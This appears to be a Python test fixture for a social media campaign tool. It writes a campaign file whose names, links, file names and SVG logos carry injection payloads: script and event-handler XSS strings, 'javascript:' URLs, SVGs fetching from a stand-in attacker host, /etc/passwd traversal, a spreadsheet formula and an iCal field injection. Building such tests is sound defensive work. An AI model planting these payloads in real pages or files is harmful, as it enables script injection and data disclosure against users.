"""A campaign that wants to run something: in texts, names, links, file names, drawings."""

import json
import shutil
from collections.abc import Mapping
from pathlib import Path

from socialkit.rules.registry import RULES
from tests.real.kit.campaign import ROOT

#: Each calls `canary` where it breaks out of a text, an attribute, a title, a script or a comment.
MARKUP = (
    "<script>canary()</script>",
    '"><img src=x onerror=canary()>',
    "'><svg onload=canary()>",
    "</title></style></textarea></script><script>canary()</script>",
    "<!--<script>canary()//",
    "--><img src=x onerror=canary()>",
    'x" onfocus="canary()" autofocus tabindex="0',
    "x' onmouseover='canary()' style='position:fixed;inset:0",
    "&lt;script&gt;canary()&lt;/script&gt;",
    "&#60;img src=x onerror=canary()&#62;",
    "{{ canary() }}{% raw %}${canary()}",
    "javascript:canary()",
    "data:text/html,<script>parent.canary()</script>",
    "<a href='javascript:canary()'>here</a><iframe srcdoc='<script>parent.canary()</script>'></iframe>",
    "<style>@import 'https://evil.example/a.css';*{background:url(https://evil.example/b)}</style>",
    "<base href='https://evil.example/'><meta http-equiv=refresh content='0;url=https://evil.example/c'>",
    "../../../../etc/passwd",
    "\\u003cscript\\u003ecanary()\\u003c/script\\u003e ${`canary()`} \u2028 canary() \u2029",
    '=HYPERLINK("https://evil.example/","click")',
    "one\nATTENDEE:mailto:evil@evil.example\nEND:VEVENT",
    "A" * 300,
    "\u0301" * 40 + "zalgo" + "🏳️\u200d🌈" * 60,
)
#: Marks that turn the reading direction of what follows; only posts may have them.
TURNING = "\u202egnp.elif\u2066 \u2067<b>canary()</b>"
_LINKS = (
    'https://www.example.org/"><script>canary()</script>',
    "https://www.example.org/'onmouseover='canary()'x='",
    "https://www.example.org/?q=javascript:canary()&a=<b>&amp;lt;",
    "HTTPS://www.example.org/../../%2e%2e/..;/etc/passwd#</script><script>canary()</script>",
)
#: A logo in order, but for its name.
_FINE = "logo&quot;><script>canary()<.script>.png"
_FILES = ("wide<img src=x onerror=canary()>.png", "square';canary();'.png")

_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
viewBox="0 0 200 80" onload="canary()">{inside}
<rect x="10" y="10" width="180" height="60" rx="12" fill="#0b5c6b" onclick="canary()"/></svg>"""
#: Drawings that would run, call or read something; each has a rectangle to see.
DRAWINGS: Mapping[str, str] = {
    "script.svg": _SVG.format(inside="<script>parent.canary();fetch('https://evil.example/s')</script>"),
    "foreign.svg": _SVG.format(
        inside='<foreignObject width="9" height="9"><body xmlns="http://www.w3.org/1999/xhtml">'
        '<img src="x" onerror="parent.canary()"/><iframe src="javascript:parent.canary()"/>'
        "</body></foreignObject>"
    ),
    "calls.svg": _SVG.format(
        inside="<style>@import 'https://evil.example/i.css'; rect {fill: url(https://evil.example/u)}</style>"
        '<image href="https://evil.example/p.png" width="9" height="9"/>'
        '<use href="https://evil.example/x.svg#a"/>'
    ),
    "link.svg": _SVG.format(
        inside='<a xlink:href="javascript:canary()"><text y="20">go</text></a>'
        '<animate attributeName="onload" to="canary()" begin="0s"/>'
        '<set attributeName="href" to="javascript:canary()"/>'
    ),
    "name\" onload=canary() '.svg": _SVG.format(inside="<title>&lt;/title&gt;&lt;script&gt;canary()</title>"),
}


def hostile_file(folder: Path) -> Path:
    """Write the campaign with its files, every rule switched off, and give its path."""
    for name in _FILES:
        shutil.copy(ROOT / "assets" / "graphics" / "campaign-1200x630.png", folder / name)
    shutil.copy(ROOT / "assets" / "logos" / "mti-na-mto.png", folder / _FINE)
    for name, drawing in DRAWINGS.items():
        (folder / name).write_text(drawing, "utf-8")
    file = folder / "posts.yaml"
    # What is JSON is YAML too.
    text = json.dumps(_campaign(), ensure_ascii=False, indent=1)
    # These two are line breaks to YAML, unless they are escaped.
    file.write_text(text.replace("\u2028", "\\u2028").replace("\u2029", "\\u2029"), "utf-8")
    return file


def _campaign() -> dict[str, object]:
    every = " ".join(MARKUP)
    return {
        "rules": dict.fromkeys(RULES, "off"),
        "campaign": {
            "name": MARKUP[1],
            "theme": every[:600],
            "organizer": MARKUP[3],
            "starts": "2027-03-22",
            "ends": "2027-03-26",
            "timezone": "Africa/Nairobi",
            "platforms": ["x", "linkedin", "facebook", "bluesky", "mastodon", "threads", "email"],
            "hashtags": {"required": ["#CleanWaterWeek"]},
            "mentions": {"required": ["@OpenWells"]},
            "link": _LINKS[0],
            "disclaimer": every,
        },
        "handles": {"@OpenWells": {"name": MARKUP[0], "x": "OpenWells"}},
        "graphics": {
            "campaign": {"files": [_FILES[0]], "alt": every},
            "second": {"file": _FILES[1], "alt": MARKUP[6]},
        },
        "partners": _partners(),
        "days": [{"date": f"2027-03-{22 + number}", "topic": MARKUP[number]} for number in range(5)],
        "events": _events(),
        "posts": _posts(),
    }


def _partners() -> list[dict[str, object]]:
    logos = [logo for name in DRAWINGS for logo in (name, _FINE)]
    return [
        {
            "id": f"evil-{number}",
            "name": name,
            "lang": ("en", "ar", "fr")[number % 3],
            "logo": logos[number % len(logos)],
            "link_parameters": {"utm_source": name, 'q"><i': "</script>"},
        }
        for number, name in enumerate(MARKUP)
    ]


def _events() -> list[dict[str, object]]:
    return [
        {
            "id": f"event-{number}",
            "title": MARKUP[number + 3],
            "starts": f"2027-03-24 1{number}:00",
            "ends": f"2027-03-24 1{number}:30",
            "link": link,
        }
        for number, link in enumerate(_LINKS)
    ]


def _posts() -> list[dict[str, object]]:
    return [
        {
            "id": f"post-{number}",
            "at": f"2027-03-{22 + number % 5} {8 + number // 5:02}:00",
            "graphic": "campaign" if number % 2 else "second",
            "link": _LINKS[number % len(_LINKS)],
            "text": {"default": f"{text} {{partner}} {{link}}", "x": f"{TURNING} {text}"},
        }
        for number, text in enumerate((*MARKUP, TURNING))
    ]
